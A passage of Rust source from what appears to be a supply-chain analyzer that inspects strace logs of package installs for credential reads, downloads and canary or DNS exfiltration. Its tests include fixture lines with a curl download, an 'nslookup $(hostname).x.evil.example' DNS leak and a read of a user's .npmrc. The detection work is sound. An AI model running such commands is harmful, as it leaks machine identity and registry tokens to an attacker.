        let ancestors: Vec<String> = chain.iter().rev().skip(1).filter_map(|p| p.exe.clone()).collect();
        let managers: Vec<bool> =
            chain.iter().map(|p| p.exe.as_deref().is_some_and(|e| self.is_package_manager(e, &p.argv))).collect();
        // A process that is no package manager, below one, or one that
        // works for a package (the command of a `start` phase).
        let package_code = managers.iter().enumerate().any(|(i, &m)| !m && managers[..i].contains(&true))
            || me.is_some_and(|p| p.package.is_some());
        let actor = Arc::new(Actor {
            is_package_manager: managers.last().copied().unwrap_or(false),
            parent_is_package_manager: managers.len() >= 2 && managers[managers.len() - 2],
            exe,
            argv_line: argv.join(" "),
            argv,
            parent_exe: ancestors.first().cloned(),
            ancestors,
            chain: chain_text(&self.model, leader),
            package: me.and_then(|p| p.package.clone()),
            package_dir: me.and_then(|p| p.package_dir.clone()),
            package_code,
        });
        self.actors.insert(leader, actor.clone());
        actor
    }

    /// Did the acting process itself make, in this run, the directory of
    /// the installed package `path` is in (`site-packages/<x>`,
    /// `node_modules/<x>` or `node_modules/@scope/<x>`)? A package being
    /// installed by its own code (pip's legacy `setup.py install`) writes
    /// there; another package's directory existed or was made by another.
    fn made_its_package_dir(&self, pid: i32, path: &str) -> bool {
        let Some(dir) = installed_package_dir(path) else { return false };
        self.dirs.get(dir).is_some_and(|maker| *maker == self.model.leader_of(pid))
    }

    fn path_fact(&mut self, pid: i32, kind: &'static str, syscall: &str, path: &str) -> Fact {
        let mut f = self.base_fact(pid, kind, syscall);
        f.home_rel = self.home_rel(path);
        f.foreign_home = self.foreign_home(path);
        f.in_project = self.ctx.project.as_deref().is_some_and(|d| paths::is_within(path, d));
        f.created_in_run = self.created.contains(path);
        f.downloaded = self.downloaded.contains(path);
        f.in_package_dir = f.actor.package_dir.as_deref().is_some_and(|d| paths::is_within(path, d))
            || self.made_its_package_dir(pid, path);
        f.target = self.proc_target(pid, path);
        f.path = Some(path.to_string());
        // Only facts some rule will look at keep what their path matched.
        if self.pack.wants(kind) {
            f.path_memo = Some(self.path_memo(path));
        }
        f
    }

    /// The memo of what `path` matched so far (see [`PathMemo`]), kept for
    /// the last [`MAX_PATH_MEMOS`] or so paths.
    fn path_memo(&mut self, path: &str) -> Rc<PathMemo> {
        if let Some(m) = self.path_memos.get(path) {
            return m.clone();
        }
        if self.path_memos.len() >= MAX_PATH_MEMOS {
            self.path_memos.clear();
        }
        let path: Rc<str> = Rc::from(path);
        let m = Rc::new(PathMemo::new(path.clone()));
        self.path_memos.insert(path, m.clone());
        m
    }

    fn addr_fact(&mut self, pid: i32, kind: &'static str, syscall: &str, addr: &SockAddr) -> Fact {
        let mut f = self.base_fact(pid, kind, syscall);
        self.fill_addr(&mut f, addr);
        f
    }

    fn fill_addr(&self, f: &mut Fact, addr: &SockAddr) {
        f.family = Some(addr.family().to_string());
        if let Some((ip, port)) = addr.ip_port() {
            f.ip = ip.parse().ok();
            f.port = Some(port);
            f.host = f.ip.and_then(|ip| self.names.get(&ip).cloned());
        } else if let SockAddr::Unix { path, r#abstract } = addr {
            f.path = Some(format!("{}{}", if *r#abstract { "@" } else { "" }, path.lossy()));
        }
    }

    /// Is `path` in a home that nothing shows to be the traced user's?
    /// Only when HOME is unknown: then a home is the user's on evidence
    /// (see `own_homes`), never by its place under `/home`.
    fn foreign_home(&self, path: &str) -> bool {
        if self.ctx.home.is_some() || self.env_home.is_some() {
            return false;
        }
        home_of(path).is_some_and(|h| !self.own_homes.contains(h))
    }

    /// A successful access under a home is evidence that it is the traced
    /// user's (with HOME unknown).
    fn home_evidence(&mut self, path: &str, ok: bool) {
        if ok && self.ctx.home.is_none() && self.env_home.is_none() {
            if let Some(h) = home_of(path) {
                if !self.own_homes.contains(h) {
                    self.own_homes.insert(h.to_string());
                }
            }
        }
    }

    /// The HOME-relative form of a path, if it is inside the traced HOME.
    fn home_rel(&self, path: &str) -> Option<String> {
        let strip = |home: &str| {
            let rest = path.strip_prefix(home.trim_end_matches('/'))?;
            rest.strip_prefix('/').map(str::to_string)
        };
        if let Some(h) = self.ctx.home.as_deref().or(self.env_home.as_deref()) {
            return strip(h);
        }
        // Unknown HOME: root's, or any user's under /home.
        if let Some(r) = strip("/root") {
            return Some(r);
        }
        let rest = path.strip_prefix("/home/")?;
        let (_, inner) = rest.split_once('/')?;
        Some(inner.to_string())
    }

    fn is_package_manager(&self, exe: &str, argv: &[String]) -> bool {
        if self.pack.is_package_manager(exe) {
            return true;
        }
        // Interpreters running the package manager's script or module:
        // `node /usr/bin/npm`, `python3 -m pip`, `python3 /usr/bin/pip3`.
        let base = basename(exe);
        let interpreter = base.starts_with("node") || base.starts_with("python") || base == "perl" || base == "ruby";
        if !interpreter {
            return false;
        }
        let mut args = argv.iter().skip(1).filter(|a| !a.starts_with('-') || *a == "-m");
        match args.next().map(String::as_str) {
            Some("-m") => args.next().is_some_and(|m| self.pack.is_package_manager(m)),
            Some(script) => self.pack.is_package_manager(script),
            None => false,
        }
    }

    fn has_canary<'s>(&self, texts: impl Iterator<Item = &'s str>) -> bool {
        crate::canary::contains_any(texts.map(str::as_bytes), &self.ctx.canaries)
    }

    /// The canary values `data` carries, plainly, encoded or compressed.
    fn canaries_in_bytes(&self, data: &[u8]) -> Vec<String> {
        crate::canary::found_bytes(data, &self.ctx.canaries).into_iter().map(str::to_string).collect()
    }

    /// The canary values a send carries, in its own bytes or across the
    /// socket's previous send to the same place and this one.
    fn sent_canaries(&mut self, pid: i32, fd: &tracer::Fd, dest: &SockAddr, data: &[tracer::Payload]) -> Vec<String> {
        if self.ctx.canaries.is_empty() {
            return Vec::new();
        }
        let bytes: Vec<u8> = data.iter().flat_map(|d| d.bytes.as_slice().iter().copied()).collect();
        let mut found = self.canaries_in_bytes(&bytes);
        let to = addr_text(dest);
        let key = (self.model.leader_of(pid), fd.num);
        // The fd may be another socket now: only a send to the same place.
        if let Some(mut prev) = self.sent_tail.remove(&key).filter(|p| p.to == to) {
            prev.bytes.extend_from_slice(&bytes[..bytes.len().min(SENT_TAIL)]);
            for c in crate::canary::found_bytes(&prev.bytes, &self.ctx.canaries) {
                // What the previous send carried by itself was its own.
                if !found.iter().chain(&prev.carried).any(|f| f == c) {
                    found.push(c.to_string());
                }
            }
        }
        let tail =
            SentTail { to, bytes: bytes[bytes.len().saturating_sub(SENT_TAIL)..].to_vec(), carried: found.clone() };
        self.sent_tail.insert(key, tail);
        found
    }

    /// Does a DNS name complete a canary with the names the process looked
    /// up under the same domain before it? The first label of each (where
    /// data goes, [`crate::canary::dns_chunk`]) is joined in order, and so
    /// are all labels of this name but the domain's two.
    fn joined_canary(&mut self, pid: i32, name: &str) -> bool {
        if self.ctx.canaries.is_empty() {
            return false;
        }
        let Some((domain, data)) = crate::canary::dns_chunk(name) else { return false };
        if crate::canary::contains(&data.replace('.', ""), &self.ctx.canaries) {
            return true;
        }
        let Some(first) = crate::canary::dns_chunk_first(data) else { return false };
        let joined = self.dns_joined.entry((self.model.leader_of(pid), domain.to_ascii_lowercase())).or_default();
        joined.push(first);
        let found = crate::canary::contains(&joined.text, &self.ctx.canaries);
        if found {
            // Reported with this name; the next ones start afresh (else
            // every later lookup there would carry it too).
            joined.text.clear();
        }
        found
    }

    fn proc_self(&self, pid: i32, path: String) -> String {
        let me = self.model.leader_of(pid);
        paths::proc_self(path, |p| self.model.same_process(me, p))
    }

    /// Whose process task `target` is, seen from task `pid`: its own, one
    /// the trace saw (spawned, or the traced command itself), or one it
    /// never saw, which is outside the package's run.
    fn whose(&self, pid: i32, target: i32) -> &'static str {
        if self.model.same_process(self.model.leader_of(pid), target) {
            TARGET_OWN
        } else if self.model.knows(target) {
            TARGET_TREE
        } else {
            TARGET_OUTSIDE
        }
    }

    /// kill(2)'s pid: 0 is the sender's own process group, -1 every process
    /// it may signal, below -1 the process group `-pid` (named after its
    /// leader, so judged by whose that leader is).
    fn signal_target(&self, pid: i32, target: i32) -> &'static str {
        match target {
            -1 => TARGET_ALL,
            0 => TARGET_OWN,
            t if t < 0 => self.whose(pid, t.checked_neg().unwrap_or(i32::MAX)),
            t => self.whose(pid, t),
        }
    }

    /// For a path under `/proc/<pid>/`: whose process it describes (own
    /// pids are already `/proc/self`, see [`Self::proc_self`]).
    fn proc_target(&self, pid: i32, path: &str) -> Option<&'static str> {
        let rest = path.strip_prefix("/proc/")?;
        match rest.split('/').next()? {
            "self" | "thread-self" => Some(TARGET_OWN),
            n => n.parse::<i32>().ok().map(|t| self.whose(pid, t)),
        }
    }

    /// `AT_FDCWD</dir>` (strace -y) tells the process's cwd.
    fn learn_cwd(&mut self, pid: i32, dirfd: Option<&tracer::Fd>) {
        if let Some(fd) = dirfd.filter(|f| f.num == tracer::strace::value::AT_FDCWD) {
            if let Some(dir) = &fd.path {
                let p = self.model.task(pid);
                if p.cwd.is_none() {
                    p.cwd = Some(dir.lossy().into_owned());
                }
            }
        }
    }

    /// What an fd is: its decoration says best, except that a bare
    /// `socket:[inode]` (strace -y without -yy) knows less than the fd table.
    fn fd_info(&self, pid: i32, fd: &tracer::Fd) -> Option<FdInfo> {
        let table = || self.model.get(pid).and_then(|p| p.fds.get(&fd.num).cloned());
        match fd.path.as_ref().map(|d| FdInfo::from_decoration(&d.lossy())) {
            Some(FdInfo::Socket { peer: None, family, stream }) => match table() {
                Some(known @ FdInfo::Socket { .. }) => Some(known),
                _ => Some(FdInfo::Socket { peer: None, family, stream }),
            },
            Some(info) => Some(info),
            None => table(),
        }
    }

    fn fd_path(&self, pid: i32, fd: Option<&tracer::Fd>) -> Option<String> {
        match self.fd_info(pid, fd?)? {
            FdInfo::File(p) => Some(p),
            _ => None,
        }
    }

    /// Records that a file was touched (outside the project; inside it, only counted).
    fn touch(&mut self, path: &str, set: impl FnOnce(&mut FileRecord), ok: bool) {
        if path.is_empty() {
            return;
        }
        if self.ctx.project.as_deref().is_some_and(|d| paths::is_within(path, d)) {
            if ok && !self.files.contains_key(path) {
                self.project_files += 1;
                self.files.insert(path.to_string(), FileRecord::in_project(path));
            }
            return;
        }
        // Looked up before a key is made: most touches are of a path seen
        // before (a copy of the path per open was an allocation for nothing).
        if !self.files.contains_key(path) {
            self.files.insert(path.to_string(), FileRecord::new(path));
        }
        let Some(r) = self.files.get_mut(path) else { return };
        set(r);
        if ok {
            r.failed = false;
        }
    }

    fn chain_text(&self, pid: i32) -> String {
        chain_text(&self.model, self.model.leader_of(pid))
    }

    /// The phase's part of the report.
    pub fn finish(mut self) -> PhaseReport {
        self.release_orphans();
        let mut files: Vec<FileRecord> = self.files.into_values().filter(|f| !f.in_project).collect();
        files.sort_by(|a, b| a.path.cmp(&b.path));
        PhaseReport {
            sandbox: None,
            name: self.ctx.phase.clone(),
            status: None,
            error: None,
            run: None,
            output: None,
            sinks: None,
            findings: {
                let (pack, sent_out) = (self.pack, self.sent_out);
                self.findings.into_sorted(|f| {
                    let softer = pack.rules.iter().find(|r| r.id == f.rule).and_then(|r| r.severity_if_nothing_sent);
                    if let Some(s) = softer.filter(|s| !sent_out && *s < f.severity) {
                        f.severity = s;
                        f.tags.push("nothing-sent".into());
                    }
                })
            },
            behaviour: Behaviour {
                files,
                project_files: self.project_files,
                commands: self.commands,
                connections: self.connections,
                dns: self.dns,
            },
            network: self.network,
            processes: self.model.len() as u64,
            events: self.events,
        }
    }
}

/// The package a program started with this environment in this directory
/// works for: npm gives a package's lifecycle scripts `npm_package_name`
/// and `npm_package_version`, cargo gives build scripts (and the rustc of
/// each crate) `CARGO_PKG_NAME` and `CARGO_PKG_VERSION`; without them, the
/// directory says it: `node_modules/<name>` (npm runs a dependency's
/// scripts there), pip's `pip-install-*/<name>_<hash>` build directory.
/// The directory of the package [`package_of`] names: cargo's
/// `CARGO_MANIFEST_DIR`, else the directory the script started in, cut
/// after `node_modules/<name>` or pip's build directory.
fn package_dir_of(env: &[String], cwd: Option<&str>) -> Option<String> {
    if let Some(dir) = env.iter().find_map(|e| e.strip_prefix("CARGO_MANIFEST_DIR=")) {
        return Some(dir.to_string());
    }
    let cwd = cwd?;
    if let Some(i) = cwd.rfind("/node_modules/") {
        let start = i + "/node_modules/".len();
        let parts = if cwd[start..].starts_with('@') { 2 } else { 1 };
        let end = cwd[start..].split('/').take(parts).map(|p| p.len() + 1).sum::<usize>() - 1;
        return Some(cwd[..start + end].to_string());
    }
    if let Some(i) = cwd.find("/pip-install-") {
        let rest = &cwd[i + 1..];
        let end = rest.split('/').take(2).map(|p| p.len() + 1).sum::<usize>() - 1;
        return Some(cwd[..i + 1 + end.min(rest.len())].to_string());
    }
    if let Some(i) = cwd.find("/pip-req-build-") {
        let end = cwd[i + 1..].find('/').map_or(cwd.len(), |e| i + 1 + e);
        return Some(cwd[..end].to_string());
    }
    Some(cwd.to_string())
}

fn package_of(env: &[String], cwd: Option<&str>) -> Option<String> {
    let var = |k: &str| env.iter().find_map(|e| e.strip_prefix(k)?.strip_prefix('=')).filter(|v| !v.is_empty());
    for (name, version) in [("npm_package_name", "npm_package_version"), ("CARGO_PKG_NAME", "CARGO_PKG_VERSION")] {
        if let Some(n) = var(name) {
            return Some(match var(version) {
                Some(v) => format!("{n}@{v}"),
                None => n.to_string(),
            });
        }
    }
    let cwd = cwd?;
    if let Some(i) = cwd.rfind("/node_modules/") {
        let rest = &cwd[i + "/node_modules/".len()..];
        let mut parts = rest.split('/');
        let first = parts.next().filter(|p| !p.is_empty() && !p.starts_with('.'))?;
        return Some(if first.starts_with('@') { format!("{first}/{}", parts.next()?) } else { first.to_string() });
    }
    let (_, rest) = cwd.split_once("/pip-install-")?;
    let dir = rest.split('/').nth(1)?;
    let (name, hash) = dir.rsplit_once('_')?;
    (hash.len() >= 8 && hash.bytes().all(|b| b.is_ascii_hexdigit())).then(|| name.to_string())
}

/// The directory of the installed package `path` is in: `.../site-packages/<x>`,
/// `.../dist-packages/<x>`, `.../node_modules/<x>` or `.../node_modules/@scope/<x>`.
fn installed_package_dir(path: &str) -> Option<&str> {
    // The last `/<marker>/` in the path: its segments from the end (one
    // backward pass; this runs for every path a rule looks at).
    let mut after = None; // the slash that ends the segment being looked at
    let mut found = None;
    for slash in memchr::memrchr_iter(b'/', path.as_bytes()) {
        if let Some(end) = after {
            let segment = &path[slash + 1..end];
            if matches!(segment, "site-packages" | "dist-packages" | "node_modules") {
                found = Some((end + 1, segment == "node_modules"));
                break;
            }
        }
        after = Some(slash);
    }
    let (start, node) = found?;
    let rest = &path[start..];
    let parts = if node && rest.starts_with('@') { 2 } else { 1 };
    // The end of the package's directory: its `parts`-th slash (a file
    // directly in site-packages or node_modules has none).
    let end = rest.match_indices('/').nth(parts - 1)?.0;
    Some(&path[..start + end])
}

/// What a socket last sent, for a canary split over two sends.
struct SentTail {
    /// Where it went.
    to: String,
    /// Its last [`SENT_TAIL`] bytes.
    bytes: Vec<u8>,
    /// The canaries it carried by itself (reported with it).
    carried: Vec<String>,
}

/// The fact's address is an internet one (not loopback).
fn to_internet(fact: &Fact) -> bool {
    fact.ip.is_some_and(|ip| !ip.to_canonical().is_loopback())
}

/// What follows an HTTP head (the body), or everything when there is no
/// head.
fn body_of(text: &str) -> &str {
    match text.find("\r\n\r\n") {
        Some(i) if text.starts_with(|c: char| c.is_ascii_uppercase()) => &text[i + 4..],
        _ => text,
    }
}

/// The home directory `path` is in: `/root` or `/home/<user>`.
pub(crate) fn home_of(path: &str) -> Option<&str> {
    if path == "/root" || path.starts_with("/root/") {
        return Some("/root");
    }
    let rest = path.strip_prefix("/home/")?;
    let user = rest.split('/').next().filter(|u| !u.is_empty())?;
    Some(&path[..6 + user.len()])
}

/// Which ecosystem a package manager's command line belongs to.
fn ecosystem_of(chain: &str, argv: &[String]) -> Option<&'static str> {
    let words = argv.iter().map(|a| basename(a)).chain(std::iter::once(chain));
    for w in words {
        match w.trim_end_matches("-cli.js") {
            "npm" | "npx" | "yarn" | "pnpm" => return Some("npm"),
            "pip" | "pip3" | "pipx" | "uv" | "poetry" => return Some("pypi"),
            "cargo" => return Some("cargo"),
            _ => {}
        }
    }
    None
}

/// The script an interpreter or shell is asked to run: the first argument
/// that is not an option (`sh -e x.sh`, `python3 x.py`), unless the code
/// is inline (`-c`, `-e`). Other programs' arguments are data (`gcc x.o`).
fn script_arg(argv: &[String]) -> Option<&str> {
    let prog = basename(argv.first()?);
    let shell = ["sh", "bash", "dash", "zsh", "ksh", "ash"].contains(&prog);
    let python = prog.starts_with("python");
    let other = prog.starts_with("node") || ["perl", "ruby", "php", "lua"].contains(&prog);
    // The flags that make the code inline (no script file) differ: `-e`
    // is errexit for a shell but code for node and perl.
    let inline: &[&str] = if shell {
        &["-c"]
    } else if python {
        &["-c", "-m"]
    } else if other {
        &["-e", "--eval", "-p", "--print"]
    } else {
        return None;
    };
    for a in argv.iter().skip(1) {
        if inline.contains(&a.as_str()) {
            return None;
        }
        if !a.starts_with('-') {
            return Some(a);
        }
    }
    None
}

fn known(r: &tracer::SysResult) -> Option<bool> {
    if r.failed() {
        Some(false)
    } else if r.success() {
        Some(true)
    } else {
        None
    }
}

fn result_text(r: &tracer::SysResult) -> String {
    match (&r.errno, r.value) {
        (Some(e), _) => e.clone(),
        (None, Some(_)) => "ok".into(),
        (None, None) => "unknown".into(),
    }
}

/// The first bytes of a payload as text a report can carry: printable
/// ASCII as it is, `\\`, `\n`, `\r`, `\t`, and every other byte as `\xNN`.
fn preview(bytes: &[u8]) -> String {
    text_of(&bytes[..bytes.len().min(FIRST_BYTES_MAX)])
}

/// Bytes as text a report can carry (see [`preview`]).
fn text_of(bytes: &[u8]) -> String {
    let mut out = String::new();
    for &b in bytes {
        match b {
            b'\\' => out.push_str("\\\\"),
            b'\n' => out.push_str("\\n"),
            b'\r' => out.push_str("\\r"),
            b'\t' => out.push_str("\\t"),
            0x20..=0x7e => out.push(char::from(b)),
            _ => out.push_str(&format!("\\x{b:02x}")),
        }
    }
    out
}

fn addr_text(a: &SockAddr) -> String {
    match a {
        SockAddr::Inet { ip, .. } | SockAddr::Inet6 { ip, .. } => ip.clone(),
        other => other.to_string(),
    }
}

/// `npm → sh → node collect.js`: each process by its program name, with the
/// script an interpreter runs.
pub fn chain_text(model: &ProcessModel, pid: i32) -> String {
    let chain = model.chain(pid);
    let mut parts: Vec<String> = Vec::new();
    for p in chain {
        let name = process_name(p.exe.as_deref(), &p.argv);
        if parts.last() != Some(&name) {
            parts.push(name);
        }
    }
    if parts.is_empty() {
        // The traced command before its first exec.
        return "?".to_string();
    }
    parts.join(" → ")
}

fn process_name(exe: Option<&str>, argv: &[String]) -> String {
    let prog = exe.map(basename).or_else(|| argv.first().map(|a| basename(a))).unwrap_or("?");
    let interpreter = prog.starts_with("node") || prog.starts_with("python") || prog == "perl" || prog == "ruby";
    if !interpreter {
        return prog.to_string();
    }
    let mut args = argv.iter().skip(1);
    while let Some(a) = args.next() {
        match a.as_str() {
            "-e" | "-c" | "--eval" => return format!("{prog} {a}"),
            "-m" => return args.next().map_or(prog.to_string(), |m| format!("{prog} -m {m}")),
            s if s.starts_with('-') => continue,
            script => {
                let script = basename(script);
                // npm and friends run as `node /usr/bin/npm`: call them by name.
                return match script.strip_suffix("-cli.js").unwrap_or(script) {
                    s @ ("npm" | "npx" | "yarn" | "pnpm" | "pip" | "pip3") => s.to_string(),
                    _ => format!("{prog} {script}"),
                };
            }
        }
    }
    prog.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_are_those_of_interpreters_only() {
        let a = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        assert_eq!(script_arg(&a(&["sh", "-e", "/tmp/x.sh"])), Some("/tmp/x.sh"));
        assert_eq!(script_arg(&a(&["/usr/bin/python3", "x.py"])), Some("x.py"));
        assert_eq!(script_arg(&a(&["sh", "-c", "true"])), None);
        assert_eq!(script_arg(&a(&["/usr/bin/gcc", "-shared", "build/x.o", "-o", "x.so"])), None);
    }

    #[test]
    fn process_names() {
        let a = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        assert_eq!(
            process_name(Some("/usr/bin/node"), &a(&["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "install"])),
            "npm"
        );
        assert_eq!(process_name(Some("/usr/bin/node"), &a(&["node", "collect.js"])), "node collect.js");
        assert_eq!(process_name(Some("/usr/bin/python3"), &a(&["python3", "-m", "pip", "install"])), "python3 -m pip");
        assert_eq!(process_name(Some("/bin/sh"), &a(&["sh", "-c", "x"])), "sh");
        assert_eq!(process_name(None, &[]), "?");
    }

    #[test]
    fn the_directory_of_an_installed_package() {
        let sp = "/home/u/project/.venv/lib/python3.11/site-packages";
        assert_eq!(installed_package_dir(&format!("{sp}/pip/_internal/x.py")), Some(&*format!("{sp}/pip")));
        assert_eq!(installed_package_dir(&format!("{sp}/x.pth")), None);
        assert_eq!(installed_package_dir("/p/node_modules/@scope/pkg/lib/a.js"), Some("/p/node_modules/@scope/pkg"));
        assert_eq!(
            installed_package_dir("/p/node_modules/a/node_modules/b/i.js"),
            Some("/p/node_modules/a/node_modules/b")
        );
        assert_eq!(installed_package_dir("/p/node_modules/.bin/tsc"), Some("/p/node_modules/.bin"));
    }
}

#[cfg(test)]
mod outside_tests;

#[cfg(test)]
mod package_code_tests;

#[cfg(test)]
mod orphan_tests {

    use super::*;

    fn analyze(lines: &[&str]) -> PhaseReport {
        crate::testutil::analyze_lines(lines, Context { phase: "install".into(), ..Context::default() })
    }

    /// strace often prints a child's first calls before its parent's clone
    /// returns; the child's finding must still carry the parent's chain.
    #[test]
    fn a_child_printed_before_its_clone_returns_gets_its_chain() {
        let r = analyze(&[
            r#"10 execve("/usr/bin/node", ["node", "x.js"], 0x1 /* 1 var */) = 0"#,
            "10 clone(child_stack=NULL, flags=SIGCHLD <unfinished ...>",
            r#"11 execve("/usr/bin/curl", ["curl", "http://x.example/p"], 0x1 /* 1 var */) = 0"#,
            "10 <... clone resumed>) = 11",
            "11 +++ exited with 0 +++",
        ]);
        let f = r.findings.iter().find(|f| f.rule == "exec-downloader").expect("curl flagged");
        assert_eq!(f.process, "node x.js");
        let cmd = r.behaviour.commands.iter().find(|c| c.argv[0] == "curl").unwrap();
        assert_eq!(cmd.parent, Some(10));
    }
}

#[cfg(test)]
mod dir_tests {
    use std::sync::Arc;

    use super::*;

    /// Build tools chmod the directories they create; that is not making a
    /// program executable. The same chmod on a created file is.
    #[test]
    fn chmod_of_a_created_directory_is_not_making_it_executable() {
        let pack = RulePack::embedded().unwrap();
        let mut a = Analyzer::new(&pack, Context { phase: "install".into(), ..Context::default() });
        let mut p = tracer::strace::Parser::new();
        let file: Arc<str> = Arc::from("t.log");
        let mut out = Vec::new();
        let lines = [
            r#"7 execve("/usr/bin/python3", ["python3", "setup.py"], 0x1 /* 1 var */) = 0"#,
            r#"7 mkdir("/tmp/build/pkg.dist-info", 0777) = 0"#,
            r#"7 chmod("/tmp/build/pkg.dist-info", 0755) = 0"#,
            r#"7 openat(AT_FDCWD, "/tmp/build/run.sh", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3"#,
            r#"7 chmod("/tmp/build/run.sh", 0755) = 0"#,
        ];
        for (i, l) in lines.iter().enumerate() {
            p.feed(&file, i as u64 + 1, None, l.as_bytes(), &mut out);
        }
        for ev in &out {
            a.event(ev);
        }
        let r = a.finish();
        let chmods: Vec<&str> =
            r.findings.iter().filter(|f| f.rule == "chmod-exec-created-file").map(|f| f.subject.as_str()).collect();
        assert_eq!(chmods, vec!["/tmp/build/run.sh"]);
    }

    fn install(lines: &[&str]) -> PhaseReport {
        crate::testutil::analyze_lines(lines, Context { phase: "install".into(), ..Context::default() })
    }

    fn rules_on(r: &PhaseReport, rule: &str) -> Vec<String> {
        r.findings.iter().filter(|f| f.rule == rule).map(|f| f.subject.clone()).collect()
    }

    #[test]
    fn with_home_unknown_a_home_is_the_users_only_on_evidence() {
        let r = install(&[
            r#"7 execve("/usr/bin/node", ["node", "app.js"], 0x1 /* 1 var */) = 0"#,
            // alice's home is shown to be the user's: a file there opened.
            r#"7 openat(AT_FDCWD, "/home/alice/.config/app.json", O_RDONLY) = 3"#,
            r#"7 openat(AT_FDCWD, "/home/alice/ssl/openssl.cnf", O_RDONLY) = -1 ENOENT (No such file or directory)"#,
            // Nothing says /home/iojs is: a build machine's path.
            r#"7 openat(AT_FDCWD, "/home/iojs/build/openssl.cnf", O_RDONLY) = -1 ENOENT (No such file or directory)"#,
            // Credential paths still match in any home.
            r#"7 openat(AT_FDCWD, "/home/bob/.npmrc", O_RDONLY) = -1 ENOENT (No such file or directory)"#,
        ]);
        assert_eq!(rules_on(&r, "config-from-user-writable-path"), ["/home/iojs/build/openssl.cnf"]);
        assert_eq!(rules_on(&r, "read-registry-token"), ["/home/bob/.npmrc"]);
        // With HOME known, another user's home is foreign whatever happens.
        let ctx = Context { phase: "install".into(), home: Some("/home/carol".into()), ..Context::default() };
        let r = crate::testutil::analyze_lines(
            &[
                r#"7 execve("/usr/bin/node", ["node", "app.js"], 0x1 /* 1 var */) = 0"#,
                r#"7 openat(AT_FDCWD, "/home/carol/ssl/openssl.cnf", O_RDONLY) = -1 ENOENT (No such file or directory)"#,
                r#"7 openat(AT_FDCWD, "/home/dave/ssl/openssl.cnf", O_RDONLY) = -1 ENOENT (No such file or directory)"#,
            ],
            ctx,
        );
        assert_eq!(rules_on(&r, "config-from-user-writable-path"), ["/home/dave/ssl/openssl.cnf"]);
    }

    #[test]
    fn the_traced_command_itself_is_not_behaviour_but_what_it_runs_is() {
        let r = install(&[
            r#"7 execve("/tmp/x/node", ["node", "-e", "1"], 0x1 /* 1 var */) = 0"#,
            "7 clone(child_stack=NULL, flags=SIGCHLD) = 8",
            r#"8 execve("/tmp/x/node", ["node", "-e", "2"], 0x1 /* 1 var */) = 0"#,
        ]);
        let subjects = rules_on(&r, "exec-from-temp-or-memfd");
        assert_eq!(subjects, ["node -e 2"], "the child is the command's behaviour, the command is not");
        assert_eq!(r.behaviour.commands.len(), 2, "both are listed as commands");
    }

    #[test]
    fn programs_that_could_not_start_are_commands_too() {
        let r = install(&[
            r#"7 execve("/usr/bin/sh", ["sh", "-c", "nslookup $(hostname).x.evil.example; ./bin/tool"], 0x1 /* 1 var */) = 0"#,
            "7 clone(child_stack=NULL, flags=SIGCHLD) = 8",
            r#"8 execve("/usr/local/bin/nslookup", ["nslookup", "box.x.evil.example"], 0x1 /* 1 var */) = -1 ENOENT (No such file or directory)"#,
            r#"8 execve("/usr/bin/nslookup", ["nslookup", "box.x.evil.example"], 0x1 /* 1 var */) = -1 ENOENT (No such file or directory)"#,
            "7 clone(child_stack=NULL, flags=SIGCHLD) = 9",
            r#"9 execve("./bin/tool", ["./bin/tool"], 0x1 /* 1 var */) = -1 EACCES (Permission denied)"#,
            "7 clone(child_stack=NULL, flags=SIGCHLD) = 10",
            r#"10 execve("/usr/local/bin/node", ["node", "x.js"], 0x1 /* 1 var */) = -1 ENOENT (No such file or directory)"#,
            r#"10 execve("/usr/bin/node", ["node", "x.js"], 0x1 /* 1 var */) = 0"#,
        ]);
        let got: Vec<(String, Option<&str>)> =
            r.behaviour.commands.iter().map(|c| (c.argv.join(" "), c.failed.as_deref())).collect();
        assert_eq!(
            got,
            [
                ("sh -c nslookup $(hostname).x.evil.example; ./bin/tool".to_string(), None),
                ("nslookup box.x.evil.example".to_string(), Some("ENOENT")),
                ("./bin/tool".to_string(), Some("EACCES")),
                ("node x.js".to_string(), None),
            ],
            "one entry per PATH search; a search that found its program is that program"
        );
        assert_eq!(rules_on(&r, "exec-network-tool"), ["nslookup box.x.evil.example"], "the attempt is behaviour");
    }

    #[test]
    fn a_dns_name_carrying_the_host_or_user_name_is_flagged() {
        let query = |name: &str| {
            let mut q = String::from(r"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00");
            for label in name.split('.') {
                q.push_str(&format!(r"\x{:02x}{label}", label.len()));
            }
            q.push_str(r"\x00\x00\x01\x00\x01");
            format!(
                r#"7 sendto(4, "{q}", 40, 0, {{sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.1")}}, 16) = 40"#
            )
        };
        let lines = [
            r#"7 execve("/usr/bin/node", ["node", "x.js"], 0x1 /* 1 var */) = 0"#.to_string(),
            "7 socket(AF_INET, SOCK_DGRAM, IPPROTO_IP) = 4".to_string(),
            query("devbox-1a2f.alice.x.evil.example"),
            // hex of "alice" and the host name in one label
            query("616c6963652d646576626f782d31613266.y.evil.example"),
            query("devbox-1a2f"),
            query("cdn.example.com"),
        ];
        let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
        let ctx = Context {
            phase: "install".into(),
            identity: vec!["devbox-1a2f".into(), "alice".into()],
            ..Context::default()
        };
        let r = crate::testutil::analyze_lines(&lines, ctx);
        let mut active: Vec<&str> = r
            .findings
            .iter()
            .filter(|f| f.rule == "dns-carries-identity" && f.is_active())
            .map(|f| f.subject.as_str())
            .collect();
        active.sort_unstable();
        assert_eq!(active, ["616c6963652d646576626f782d31613266.y.evil.example", "devbox-1a2f.alice.x.evil.example"]);
    }

    #[test]
    fn findings_name_the_package_whose_script_did_it() {
        let r = install(&[
            r#"7 execve("/usr/bin/node", ["npm", "rebuild"], ["HOME=/home/u"]) = 0"#,
            "7 clone(child_stack=NULL, flags=SIGCHLD) = 8",
            r#"8 chdir("/home/u/project/node_modules/@evil/pkg") = 0"#,
            r#"8 execve("/bin/sh", ["sh", "-c", "node install.js"], ["npm_package_name=@evil/pkg", "npm_package_version=1.2.3"]) = 0"#,
            "8 clone(child_stack=NULL, flags=SIGCHLD) = 9",
            r#"9 execve("/usr/bin/node", ["node", "install.js"], ["npm_package_name=@evil/pkg", "npm_package_version=1.2.3"]) = 0"#,
